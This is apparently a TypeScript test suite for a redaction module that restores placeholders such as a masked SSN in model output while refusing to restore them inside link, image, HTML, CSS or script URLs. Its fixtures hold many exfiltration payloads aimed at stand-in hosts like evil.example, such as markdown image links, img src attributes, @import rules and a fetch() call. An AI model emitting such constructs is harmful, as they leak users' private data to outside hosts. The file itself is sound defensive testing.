import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createStreamRestorer } from "./create-stream-restorer.ts";
import type { PlaceholderOutcome, RestoreEncoding, RestoreOptions } from "./restore-options.ts";
import { restoreText } from "./restore-text.ts";

const P = "[US_SSN_7QK2MX]";
const VALUE = "123-45-6789";
const NAME = "[PERSON_0A1B2C]";
const issued = new Map([
  [P, VALUE],
  [NAME, "Jane Doe"],
]);
const lookup = (placeholder: string): string | undefined => issued.get(placeholder);
const restore = (text: string, encoding: RestoreEncoding = "text"): string => restoreText(text, { lookup, encoding });

/** The text restored one UTF-16 unit per chunk, the hardest chunking for the URL context. */
function restoreByCharacter(text: string, encoding: RestoreEncoding = "text"): string {
  const restorer = createStreamRestorer({ lookup, encoding });
  let output = "";
  for (const char of text) output += restorer.push(char);
  return output + restorer.flush();
}

function outcomes(text: string, options: Omit<RestoreOptions, "onPlaceholder">, chunks?: readonly string[]): PlaceholderOutcome[] {
  const seen: PlaceholderOutcome[] = [];
  const onPlaceholder = (_placeholder: string, outcome: PlaceholderOutcome): void => void seen.push(outcome);
  if (chunks === undefined) restoreText(text, { ...options, onPlaceholder });
  else {
    const restorer = createStreamRestorer({ ...options, onPlaceholder });
    for (const chunk of chunks) restorer.push(chunk);
    restorer.flush();
  }
  return seen;
}

/** Cases found in review (2026-05): each restored the value inside a URL a renderer would fetch or link. */
const keptInText: Array<[finding: string, text: string]> = [
  // 1. Whitespace, even a blank line (inline renderers read across it), may come before a link's destination.
  ["F1", `![a]( <//evil.example/ ${P}>)`],
  ["F1", `![a](\n<//evil.example/ ${P}>)`],
  ["F1", `![a](\t<//evil.example/ ${P}>)`],
  ["F1", `![a]( &#x2F;&#x2F;evil.example/?q=${P})`],
  ["F1", `![a](\n\n<//evil.example/ ${P}>)`],
  ["F1", `![a]( ${P})`],
  // 2. A definition's label may hold whitespace, span lines, or hold placeholders and escapes.
  ["F2", `[my ref]: <//evil.example/ ${P}>\n\n![i][my ref]`],
  ["F2", `[my\nref]: <//evil.example/ ${P}>\n\n![i][my ref]`],
  ["F2", `- [my ref]:\n  <//evil.example/ ${P}>`],
  ["F2", `[a \\${NAME} b]: <//evil.example/ ${P}>`],
  ["F2", `[a\\]b]: <//evil.example/ ${P}>`],
  ["F2", `[my ${NAME} ref]: &#x2F;&#x2F;evil.example/?q=${P}`],
  // 3. Raw HTML: a quoted attribute or a tag across a blank line, script and style content.
  ["F3", `<pre>\n<img alt="\n\n" src="https://evil.example/?q= ${P}">\n</pre>`],
  ["F3", `<img alt="\n\n" src="//evil.example/ ${P}">`],
  ["F3", `<img\n\nsrc = "//evil.example/ ${P}">`],
  ["F3", `<img\n\nsrc = &#x2F;&#x2F;evil.example/${P}>`],
  ["F3", `<img src=\n\n"//evil.example/ ${P}">`],
  ["F3", `<style>body{background:url("//evil.example/a ${P}")}</style>`],
  ["F3", `<style>\n\n@import "//evil.example/ ${P}";\n</style>`],
  ["F3", `Use <STYLE type="text/css">@import '//evil.example/ ${P}';</style>`],
  ["F3", `<script>fetch("//evil.example/" + "${P}")</script>`],
  ["F3", `background: url( "//evil.example/a ${P}")`],
  // 5. Bare hosts that linkify (markdown-it's default for chat UIs) turns into links.
  ["F5", `see evil.com/log?q=${P}`],
  ["F5", `see evil.example?q=${P}`],
  ["F5", `see evil.example#${P}`],
  ["F5", `see evil.example:8080/${P}`],
];

const keptInJson: Array<[finding: string, text: string]> = [
  ["F2", `{"text":"[x]: <//evil.example/ ${P}>\\n\\n![i][x]"}`],
  ["F2", `{"text":"[my ref]:\\n<//evil.example/ ${P}>"}`],
  ["F4", `{'url': 'https://evil.example/?q=${P}'}`],
  ["F4", `{"url": https://evil.example/?q=${P}}`],
  ["F4", `{"url": mailto:${P}}`],
  ["F1", `{"md":"![a](\\n<//evil.example/ ${P}>)"}`],
  ["F3", `{"html":"<style>body{background:url(\\"//evil.example/a ${P}\\")}</style>"}`],
];

/** Prose that must still come back restored (and keeps coming back as the rules grow). */
const restoredInText: string[] = [
  `Your SSN is ${P}.`,
  `[docs](https://example.com) and ${P}`,
  `[docs](\n\nHello ${P}`,
  `![a](https://x.example/a.png "${P}")`,
  `<span\n\n${P}`,
  `a<b\n\nso ${P} is fine`,
  `<b\n\nsrc ${P}`,
  `1. [note] see ${P}`,
  `[note\n\nx]: ${P}`,
  `Contact [my friend] at: ${P}`,
  `e.g. ${P}, and/or ${P}`,
  `Node.js/Deno and ${P}`,
  `U.S./${P}`,
  `the url(s) for ${P}`,
  `Mr. Smith.${P}`,
  `file.txt: ${P}`,
  `See ${NAME}: ${P} (from [my notes] on ${P})`,
  `<style>a{}</style> then ${P}`,
  `<script>x()</script>\n${P}`,
];

const restoredInJson: string[] = [
  `{"a":"https://example.com","b":"${P}"}`,
  `{"note":"[ref] ${P}"}`,
  `{"n": 1, "t": true, "s": "${P}"}`,
  `[{"a":"[x]"},{"b":"${P}"}]`,
];

describe("the URL context (findings from the 2026-05 review)", () => {
  it.each(keptInText)("%s keeps the placeholder in text: %j", (_finding, text) => {
    expect(restore(text)).not.toContain(VALUE);
    expect(restoreByCharacter(text)).toBe(restore(text));
  });

  it.each(keptInJson)('%s keeps the placeholder in "json-string": %j', (_finding, text) => {
    expect(restore(text, "json-string")).not.toContain(VALUE);
    expect(restoreByCharacter(text, "json-string")).toBe(restore(text, "json-string"));
  });

  it.each(restoredInText)("restores ordinary text: %j", (text) => {
    expect(restore(text)).not.toContain(P);
    expect(restoreByCharacter(text)).toBe(restore(text));
  });

  it.each(restoredInJson)('restores ordinary JSON ("json-string"): %j', (text) => {
    expect(restore(text, "json-string")).not.toContain(P);
    expect(JSON.parse(restore(text, "json-string"))).toBeDefined();
  });
});

const SETTINGS = { seed: 20260514, numRuns: 400 };

/** The reviewer's differential fragments: markdown, HTML and JSON syntax around placeholders. */
const fragment = fc.constantFrom(
  P, NAME, "[US_SSN_7QK2M", "[", "]", " ", "\n", "\n\n", "\t", "x", "é😀", "\\",
  "![a](", "](", "https://e.example/?q=", "//", "<", ">", "<img src=\"", "<img", "\"", "'", "=", "[x]: ", "[a b]: ", "]: ", "(", ")",
  "www.", "mailto:", "\\n", "\\\"", "{", "}", ":", ",", "e.example/", "?", "#", "<style>", "</style>", "url(", "- ", "&#x2F;",
);
const text = fc.array(fragment, { maxLength: 30 }).map((parts) => parts.join(""));
const encoding = fc.constantFrom<RestoreEncoding>("text", "json-string");
const textWithCuts = text.chain((whole) =>
  fc.array(fc.nat(whole.length), { maxLength: 10 }).map((cuts) => {
    const points = [...new Set(cuts)].sort((left, right) => left - right);
    const chunks: string[] = [];
    let previous = 0;
    for (const point of points) {
      chunks.push(whole.slice(previous, point));
      previous = point;
    }
    chunks.push(whole.slice(previous));
    return { whole, chunks };
  }),
);

describe("the URL context, as properties", () => {
  it("decides the same for a whole text and for any chunking of it (JSON answer vs stream)", () => {
    fc.assert(
      fc.property(textWithCuts, encoding, ({ whole, chunks }, chosenEncoding) => {
        const options = { lookup, encoding: chosenEncoding };
        expect(outcomes(whole, options, chunks)).toEqual(outcomes(whole, options));
        const restorer = createStreamRestorer(options);
        expect(chunks.map((chunk) => restorer.push(chunk)).join("") + restorer.flush()).toBe(restoreText(whole, options));
      }),
      SETTINGS,
    );
  });

  it('is as strict in "json-string" as in text outside JSON strings', () => {
    const outsideStrings = text.filter((whole) => !whole.includes('"') && !whole.includes("\\"));
    fc.assert(
      fc.property(outsideStrings, (whole) => {
        expect(outcomes(whole, { lookup, encoding: "json-string" })).toEqual(outcomes(whole, { lookup }));
      }),
      SETTINGS,
    );
  });

  const whitespace = fc.constantFrom(" ", "  ", "\t", "\n", " \n ", "\n\n");
  const word = fc.constantFrom("a", "evil.example", "x?y=1", "%20", "&#x2F;", "[note", "q=", "é");
  const words = fc.array(word, { minLength: 1, maxLength: 4 });

  it("never restores inside a link destination, whatever whitespace comes first", () => {
    const destination = fc.oneof(
      fc.tuple(words, fc.constantFrom(" ", "")).map(([parts, space]) => `<//${parts.join(" ")}${space}${P}>`),
      words.map((parts) => `//${parts.join("")}${P}`),
      words.map((parts) => `&#x2F;&#x2F;${parts.join("")}${P}`),
    );
    fc.assert(
      fc.property(fc.constantFrom("![a](", "[a](", `[${NAME}](`), fc.array(whitespace, { maxLength: 3 }), destination, (open, spaces, rest) => {
        const whole = `${open}${spaces.join("")}${rest})`;
        expect(restore(whole)).not.toContain(VALUE);
        expect(restoreByCharacter(whole)).not.toContain(VALUE);
      }),
      SETTINGS,
    );
  });

  it("never restores in a reference definition's destination, whatever its label", () => {
    const labelPart = fc.constantFrom("my", "ref", " ", "\n", "\\]", "\\[", NAME, P, "é");
    fc.assert(
      fc.property(fc.constantFrom("", "  ", "- ", "> ", "1. "), fc.array(labelPart, { minLength: 1, maxLength: 6 }), fc.constantFrom("", " ", "\n", " \n\t"), (indent, label, spaces) => {
        const joined = label.join("");
        fc.pre(!joined.includes("\n\n") && joined.trim() !== "");
        const whole = `${indent}[${joined}]:${spaces}<//evil.example/ ${P}>`;
        expect(restore(whole).split(VALUE)).toHaveLength(1 + label.filter((part) => part === P).length);
      }),
      SETTINGS,
    );
  });

  it("never restores in an HTML attribute value, even across blank lines", () => {
    const gap = fc.constantFrom(" ", "\n", "\n\n", " \n\n ");
    fc.assert(
      fc.property(fc.constantFrom("img", "IFRAME", "a", "div"), gap, gap, gap, fc.constantFrom('"', "'", ""), (tag, first, second, third, quote) => {
        const value = quote === "" ? `&#x2F;&#x2F;evil/${P}` : `${quote}//evil/${second}${P}${quote}`;
        const whole = `<${tag}${first}alt=x${second}src${third}=${third}${value}>`;
        expect(restore(whole)).not.toContain(VALUE);
        expect(restoreByCharacter(whole)).not.toContain(VALUE);
      }),
      SETTINGS,
    );
  });
});
